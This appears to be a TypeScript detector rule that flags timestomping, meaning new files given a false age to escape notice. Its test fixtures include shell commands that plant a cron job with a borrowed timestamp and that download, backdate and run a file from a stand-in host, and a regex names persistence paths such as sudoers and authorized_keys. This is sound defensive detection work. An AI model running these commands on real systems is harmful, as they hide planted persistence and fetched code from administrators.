import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** New files that are made to look old. */
export const forgedTime: Detector = {
  id: 'forged-time',
  version: 1,
  title: 'Gives a planted file the time of another.',
  attack: ['T1070.006'],
  description: `
\`touch -r /bin/ls FILE\` makes a new file as old as the system around it, so that a search for what changed does not find it.
Build scripts set times, too: it is *suspicious* only next to a payload, or on a file that opens a door (cron tables, keys,
preload lists), and nothing otherwise.
`,
  fires: [
    {
      name: 'a planted job',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'cp /data/j /etc/cron.d/j; touch -r /etc/passwd /etc/cron.d/j; exec app'] },
    },
    {
      name: 'next to a download that is run',
      severity: 'suspicious',
      image: {
        cmd: [
          'sh',
          '-c',
          'wget -qO /tmp/x https://files.example/x; touch -t 201501010101 /tmp/x; chmod +x /tmp/x; /tmp/x',
        ],
      },
    },
  ],
  silent: [
    { name: 'a build that can be repeated', image: { cmd: ['sh', '-c', 'touch -d @0 /build/a.tar; exec app'] } },
    { name: 'keeping the time of a file', image: { cmd: ['sh', '-c', 'touch -r /data/a /data/b; exec app'] } },
  ],
  detect(scene) {
    return effectsOf(scene, 'hide').flatMap((effect) => {
      if (effect.how !== 'timestamp') return [];
      const payload = payloadOf(scene, effect.stage);
      const file = render(effect.what);
      const door = /(cron|authorized_keys|ld\.so\.preload|\/etc\/(passwd|shadow|sudoers|pam\.d)|systemd\/system)/.test(
        file.slice(0, file.indexOf(' like ')),
      );
      const sighting = sightingOf(scene, effect);
      // Builds that are to give the same image twice set all times.
      if (payload === undefined && (!door || sighting.reach === 'built')) return [];
      return findingOf(scene, sighting, {
        threat: 'minor',
        paired: payload ? `The same code leads to ${payload.what}.` : 'The file opens a door.',
        title: `Gives a file a false time (${valueWords(effect.what, 100)})`,
        effects: [effect.id],
        encodingDeceives: false,
      });
    });
  },
};
